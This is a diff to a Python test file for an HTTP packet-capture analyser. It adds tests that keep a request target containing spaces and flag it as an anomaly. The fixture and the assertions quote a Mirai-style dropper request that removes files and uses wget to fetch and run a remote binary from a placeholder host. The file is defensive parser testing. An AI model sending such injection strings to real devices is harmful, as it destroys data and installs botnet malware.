@@ -10,7 +10,8 @@ from __future__ import annotations
 from collections import Counter
 from collections.abc import Callable
 
-from alb_pcap.model import TH_ACK, TH_FIN, TH_PUSH, TH_RST, TH_SYN
+from alb_pcap.model import ORIG, RESP, TH_ACK, TH_FIN, TH_PUSH, TH_RST, TH_SYN, AnomalyLog
+from alb_pcap.wire.http import HttpConnection
 
 from .analysis import run
 from .wire import Wire
@@ -125,3 +126,43 @@ def test_a_request_and_answer_both_lost_leave_no_empty_exchange(tmp_path):
     txs, anomalies, _ = analysed(build_lost_request_and_answer(), tmp_path)
     assert txs == []
     assert anomalies["HTTP_content_gap"] == 2
+
+
+# -- 2. a request target with spaces
+
+
+SHELL = b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://x/arm;sh HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n"
+NOT_FOUND = b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
+
+
+@capture
+def build_target_with_spaces() -> Wire:
+    """Real attack traffic (a Mirai-style dropper): the target holds a space; the server answers."""
+    w = handshake(Wire())
+    c, s = 1001 + len(SHELL), 5001 + len(NOT_FOUND)
+    return (w.add(0.003, C, 40000, S, 80, DATA, seq=1001, ack=5001, payload=SHELL)
+             .add(0.004, S, 80, C, 40000, DATA, seq=5001, ack=c, payload=NOT_FOUND)
+             .add(0.005, C, 40000, S, 80, DATA, seq=c, ack=s, payload=GET)
+             .add(0.006, S, 80, C, 40000, DATA, seq=s, ack=c + len(GET), payload=OK)
+             .add(0.007, C, 40000, S, 80, TH_FIN | TH_ACK, seq=c + len(GET), ack=s + len(OK))
+             .add(0.008, S, 80, C, 40000, TH_FIN | TH_ACK, seq=s + len(OK), ack=c + len(GET) + 1))
+
+
+def test_a_target_with_spaces_is_kept_as_sent(tmp_path):
+    """The server answered it, so it is a transaction: the target is everything between the method
+    and the version, with an anomaly (was: bad_HTTP_request, and the 404 unmatched).
+
+    Deliberately unlike tshark, which cuts the URI at the first space ("/shell?cd+/tmp;rm+-rf+*;wget+"):
+    the rest is what the attacker sent and what a server's access log shows."""
+    txs, anomalies, _ = analysed(build_target_with_spaces(), tmp_path)
+    assert txs == [("GET", "/shell?cd+/tmp;rm+-rf+*;wget+ http://x/arm;sh", 404, "complete"),
+                   ("GET", "/a", 200, "complete")]
+    assert anomalies == {"HTTP_space_in_target": 1}
+
+
+def test_a_target_with_spaces_warns_each_time():
+    """The parse of a start line is remembered; the anomaly for a spaced one is not skipped for that."""
+    conn = HttpConnection(1, AnomalyLog())
+    conn.data(ORIG, SHELL + SHELL, 1, 1)
+    assert [tx.uri for tx in conn._txs] == ["/shell?cd+/tmp;rm+-rf+*;wget+ http://x/arm;sh"] * 2
+    assert conn.anomalies.counts == {"HTTP_space_in_target": 2}
